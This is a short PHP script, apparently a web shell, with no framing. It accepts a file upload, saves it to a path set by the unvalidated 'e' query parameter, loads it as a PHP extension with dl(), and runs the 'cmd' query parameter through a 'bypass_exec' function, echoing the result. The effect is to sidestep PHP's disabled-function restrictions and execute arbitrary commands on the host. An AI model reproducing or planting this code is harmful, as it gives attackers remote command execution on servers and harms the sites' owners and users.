<?php
$ext = dirname(__FILE__) . '/' . $_GET['e'];
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $ext);
}
if (function_exists('dl')) {
    dl(basename($ext));
    if (function_exists('bypass_exec')) {
        echo bypass_exec($_GET['cmd']);
    }
}
